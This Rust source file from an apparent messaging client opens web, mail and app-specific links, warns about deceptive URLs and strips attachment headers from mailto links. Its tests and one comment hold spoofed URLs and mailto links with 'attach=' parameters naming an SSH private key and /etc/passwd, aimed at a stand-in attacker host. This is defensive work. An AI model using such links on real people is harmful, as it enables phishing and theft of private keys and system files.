//! Links: to web pages, and `pulse://` links that come from outside.

use pulse_client::folding::is_unseen;

use super::problems::said;
use super::{AppState, FirstRunStep, Overlay, Phase};
use crate::effect::Effect;
use crate::limits::HOST_SEEN_MAX;
use crate::native::links::is_pulse_scheme;

impl AppState {
    /// Opens a link. One of Pulse is asked about here; one that looks odd is shown first, and opened when it is asked for again
    /// there; anything but web and mail is not opened at all.
    pub(super) fn open_link(&mut self, link: &str) -> Vec<Effect> {
        let scheme = link.split(':').next().unwrap_or_default().to_lowercase();
        match scheme.as_str() {
            "pulse" => self.open_pulse_link(link),
            "http" | "https" | "mailto" => {
                let is_shown = matches!(&self.overlay, Some(Overlay::LinkWarning { link: shown, .. }) if shown == link);
                if is_shown {
                    self.overlay = None;
                } else if looks_odd(link) {
                    self.overlay = Some(Overlay::LinkWarning {
                        link: link.to_owned(),
                        is_hidden: false,
                    });
                    return Vec::new();
                }
                vec![Effect::OpenUrl(without_headers(link).to_owned())]
            }
            _ => Vec::new(),
        }
    }

    /// Whoever clicked on something else sees at least that it is no link of Pulse; nothing else is opened for another program.
    pub(super) fn link_from_outside(&mut self, link: &str) -> Vec<Effect> {
        if is_pulse_scheme(link) {
            return self.open_pulse_link(link.trim());
        }
        let mut effects = self.problem(said("error-link-outside"));
        effects.push(Effect::ShowWindow);
        effects
    }

    /// A server's link that was given at the start is the server of the first run; else the one that this computer suggests.
    pub(super) fn take_server_link(&mut self) {
        let is_server = |link: &mut String| link.parse::<pulse_client::ServerLink>().is_ok();
        if let Phase::FirstRun(first_run) = &mut self.phase
            && let Some(link) =
                (self.pending_link.take_if(is_server)).or_else(|| self.suggested_server.clone())
        {
            first_run.server_link = link;
        }
    }

    /// A link from a browser, another program or the command line. Nothing follows from it but a question.
    fn open_pulse_link(&mut self, link: &str) -> Vec<Effect> {
        self.overlay = None;
        match &mut self.phase {
            Phase::FirstRun(first_run)
                if first_run.step <= FirstRunStep::Server
                    && link.parse::<pulse_client::ServerLink>().is_ok() =>
            {
                link.clone_into(&mut first_run.server_link);
                first_run.step = FirstRunStep::Server;
                first_run.error = None;
            }
            // It waits until there is an account that can be asked.
            _ => {
                self.forget_page_error();
                self.pending_link = Some(link.to_owned());
            }
        }
        vec![Effect::ShowWindow]
    }
}

/// An address to write to, without what a link can put into the letter: some mail programs attach files of this computer when
/// a link says so.
fn without_headers(link: &str) -> &str {
    match link.get(.."mailto:".len()) {
        Some(scheme) if scheme.eq_ignore_ascii_case("mailto:") => {
            link.split('?').next().unwrap_or(link)
        }
        _ => link,
    }
}

/// Whether a link may lead elsewhere than it seems, or is read along on the way.
pub(crate) fn looks_odd(link: &str) -> bool {
    !oddities(link).is_empty()
}

/// What is odd about a link, as keys of the texts, what deceives most first.
pub(crate) fn oddities(link: &str) -> Vec<&'static str> {
    let lower = link.to_ascii_lowercase();
    // Behind its question mark a mail link can hold anything, also what begins a page.
    if let Some(rest) = lower.strip_prefix("mailto:") {
        let address = rest.split('?').next().unwrap_or_default();
        return chosen([
            (link.chars().any(turns_or_hides), "link-odd-unseen"),
            (has_foreign_letters(address), "link-odd-mail-letters"),
        ]);
    }
    let (scheme, rest) = lower.split_once(':').unwrap_or(("", &lower));
    // Browsers take any number of slashes of both kinds for two, and what follows them for the host.
    let begin = rest.trim_start_matches(['/', '\\']);
    let authority = begin.split(['/', '?', '#']).next().unwrap_or_default();
    let is_disguised = rest.strip_prefix("//") != Some(begin)
        || authority.is_empty()
        || authority.contains(['@', '\\', '%']);
    chosen([
        (link.chars().any(turns_or_hides), "link-odd-unseen"),
        (is_disguised, "link-odd-disguised"),
        (has_foreign_letters(authority), "link-odd-letters"),
        (authority.len() > HOST_SEEN_MAX, "link-odd-long"),
        (scheme == "http", "link-odd-http"),
    ])
}

fn chosen<const N: usize>(reasons: [(bool, &'static str); N]) -> Vec<&'static str> {
    let odd = reasons.into_iter().filter(|(is_odd, _)| *is_odd);
    odd.map(|(_, key)| key).collect()
}

/// Whether a host, or a mail address, has letters that may look like others.
fn has_foreign_letters(name: &str) -> bool {
    !name.is_ascii()
        || name
            .split(['.', '@'])
            .any(|label| label.starts_with("xn--"))
}

/// Characters that are not seen, and letters that are read from right to left: they change where the other parts of a link stand.
fn turns_or_hides(character: char) -> bool {
    character.is_control()
        || crate::rich_text::has_rtl(character.encode_utf8(&mut [0; 4]))
        || is_unseen(character)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn links_that_may_deceive_look_odd() {
        for link in [
            "https://paypаl.com/",
            "https://example.org@evil.example/",
            "https://xn--pypal-4ve.com/",
            "http://example.org/",
            "HTTP://example.org/",
            "https://XN--pypal-4ve.com/",
            "https://evil.example\\.bank.example/",
            "https://%65vil.example/",
            "https://example.org/\u{202e}gpj.exe",
            "https://evil.example/א/www.bank.example",
            "https://bank\u{200b}.example/",
            "https://example.org/\u{e0041}",
            // Browsers skip the slashes that are too many.
            "https:///\u{430}pple.com/",
            "https:///bank.example@evil.example/",
            "https://\\/evil.example/",
            "https:\\evil.example/",
            "https:evil.example",
            "https://?evil.example",
            "https://",
            "mailto:x@\u{430}pple.com",
            "mailto:x@\u{430}pple.com?x=://y",
            "mailto:x@xn--pple-43d.com?x=://y",
            &format!("https://bank.example.{}.evil.example/", "a".repeat(60)),
        ] {
            assert!(looks_odd(link), "{link}");
        }
        for link in [
            "https://example.org/a@b?c=d",
            "https://example.org",
            "mailto:a@example.org",
            "mailto:a@example.org?subject=://\u{e4}",
            "https://example.org/ä/日本?q=é",
            "https://some-project.pages.hosting.example.org/",
        ] {
            assert!(!looks_odd(link), "{link}");
        }
    }

    /// Whoever is warned of an unencrypted link is not told that it deceives.
    #[test]
    fn each_oddity_has_its_own_reason() {
        for (link, reasons) in [
            ("http://example.org/", &["link-odd-http"][..]),
            ("https://paypаl.com/", &["link-odd-letters"]),
            ("https://a@evil.example/", &["link-odd-disguised"]),
            (
                "https:///paypаl.com/",
                &["link-odd-disguised", "link-odd-letters"],
            ),
            ("mailto:a@paypаl.com", &["link-odd-mail-letters"]),
            ("https://bank.example/\u{202e}gpj.exe", &["link-odd-unseen"]),
            (
                "http://xn--pypal-4ve.com/",
                &["link-odd-letters", "link-odd-http"],
            ),
        ] {
            assert_eq!(oddities(link), reasons, "{link}");
        }
    }

    /// A contact sends `mailto:me@evil.example?attach=~/.ssh/id_ed25519`, or a letter that is written already.
    #[test]
    fn a_link_puts_nothing_into_a_letter() {
        assert_eq!(
            without_headers("MAILTO:a@example.org?attach=/etc/passwd&body=b"),
            "MAILTO:a@example.org"
        );
        assert_eq!(
            without_headers("https://example.org/?attach=1"),
            "https://example.org/?attach=1"
        );
    }
}
